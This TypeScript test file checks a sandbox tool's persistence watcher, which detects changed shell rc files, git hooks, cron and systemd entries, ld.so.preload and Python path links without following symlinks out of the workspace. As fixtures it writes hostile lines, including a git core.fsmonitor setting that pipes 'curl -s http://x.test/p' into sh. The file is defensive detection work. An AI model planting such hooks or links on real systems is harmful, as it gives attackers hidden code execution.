// The persistence watch on a real directory: what it sees, what it must not follow, what it must not miss.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { persistenceChanges, snapshotPersistence } from '../src/session/persistence-watch.js';
import { snapshotRootPersistence } from '../src/session/root-persistence-watch.js';

test('persistence watch: never follows a symlink out of the workspace; a rewrite with its mtime put back is still a change', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const ws = join(dir, 'ws'), host = join(dir, 'host');
  mkdirSync(ws);
  mkdirSync(join(host, 'lib', 'python3.11', 'site-packages'), { recursive: true });
  writeFileSync(join(host, 'authorized_keys'), 'ssh-ed25519 AAAA host');
  writeFileSync(join(host, 'lib', 'python3.11', 'site-packages', 'sitecustomize.py'), '');
  // `ln -s /root/.ssh .ssh`: Corral runs as root and must not report on the host's files
  symlinkSync(host, join(ws, '.ssh'));
  symlinkSync(host, join(ws, '.local'));
  assert.deepEqual([...snapshotPersistence(ws).keys()], []);

  mkdirSync(join(ws, 'repo', '.git', 'hooks'), { recursive: true });
  writeFileSync(join(ws, 'repo', '.git', 'hooks', 'pre-commit.sample'), '');
  writeFileSync(join(ws, '.bashrc'), 'aaaa');
  const before = snapshotPersistence(ws);
  assert.deepEqual([...before.keys()], ['.bashrc'], 'hook samples are not hooks');
  const st = statSync(join(ws, '.bashrc'));
  writeFileSync(join(ws, '.bashrc'), 'bbbb');
  utimesSync(join(ws, '.bashrc'), st.atime, st.mtime);
  writeFileSync(join(ws, 'repo', '.git', 'hooks', 'post-checkout'), '#!/bin/sh\n');
  assert.deepEqual(persistenceChanges(before, snapshotPersistence(ws)).map((c) => [c.path, c.created]), [['.bashrc', false], ['repo/.git/hooks/post-checkout', true]]);
});

test('root persistence watch: a link planted over a place (a file, a whole place directory, a directory on its way, a python3.X directory) is itself a change; none is followed', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-rpw-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const upper = join(dir, 'upper'), elsewhere = join(dir, 'elsewhere');
  mkdirSync(join(elsewhere, 'site-packages'), { recursive: true });
  writeFileSync(join(elsewhere, 'x.sh'), 'curl x | sh\n');
  writeFileSync(join(elsewhere, 'site-packages', 'sitecustomize.py'), '');
  for (const d of ['etc/cron.d', 'usr/local/lib/python3.12', 'usr/lib']) mkdirSync(join(upper, d), { recursive: true });
  symlinkSync('/workspace/x.so', join(upper, 'etc', 'ld.so.preload'));
  symlinkSync('/workspace/job', join(upper, 'etc', 'cron.d', 'job'));
  symlinkSync(elsewhere, join(upper, 'etc', 'profile.d'));
  symlinkSync(elsewhere, join(upper, 'etc', 'systemd'));
  symlinkSync(elsewhere, join(upper, 'etc', 'zsh'));
  symlinkSync(elsewhere, join(upper, 'usr', 'lib', 'python3.11'));
  symlinkSync(join(elsewhere, 'site-packages'), join(upper, 'usr', 'local', 'lib', 'python3.12', 'dist-packages'));
  const snap = snapshotRootPersistence(upper);
  assert.deepEqual([...snap.keys()].sort(), ['etc/cron.d/job', 'etc/ld.so.preload', 'etc/profile.d', 'etc/systemd', 'etc/zsh', 'usr/lib/python3.11', 'usr/local/lib/python3.12/dist-packages']);
  assert.deepEqual(snap.get('etc/systemd')![1].attack, ['T1543.002']);
  assert.deepEqual(snap.get('usr/lib/python3.11')![1].attack, ['T1546.018']);
  // (what the links point at is never looked into: the files there are not in the snapshot)
  assert.ok(![...snap.keys()].some((k) => k.endsWith('x.sh') || k.endsWith('sitecustomize.py')));
});

test('persistence watch: a repository config that makes git run a command is a change when those settings change, not when git rewrites the file; a linked config is not read', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'corral-pw-git-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const ws = join(dir, 'ws');
  mkdirSync(join(ws, 'repo', '.git'), { recursive: true });
  const cfg = join(ws, 'repo', '.git', 'config');
  writeFileSync(cfg, '[core]\n\tbare = false\n[user]\n\temail = a@example.test\n');
  const clean = snapshotPersistence(ws);
  assert.deepEqual([...clean.keys()], [], 'git init and user settings are ordinary');
  writeFileSync(cfg, '[core]\n\tbare = false\n\tfsmonitor = "curl -s http://x.test/p | sh"\n');
  const planted = snapshotPersistence(ws);
  const changes = persistenceChanges(clean, planted);
  assert.equal(changes.length, 1);
  assert.equal(changes[0]!.path, 'repo/.git/config');
  assert.match(changes[0]!.place.what, /core\.fsmonitor = curl -s http:\/\/x\.test\/p \| sh/);
  // git rewrites the file for an unrelated setting: the same hook, no new change
  writeFileSync(cfg, '[core]\n\tbare = false\n\tfsmonitor = "curl -s http://x.test/p | sh"\n[user]\n\tname = bot\n');
  assert.deepEqual(persistenceChanges(planted, snapshotPersistence(ws)), []);
  // a config that is a link is never followed (Corral is root; the target may be the host's)
  rmSync(cfg);
  writeFileSync(join(dir, 'host.cfg'), '[core]\n\tfsmonitor = ./x\n');
  symlinkSync(join(dir, 'host.cfg'), cfg);
  assert.deepEqual([...snapshotPersistence(ws).keys()], []);
});
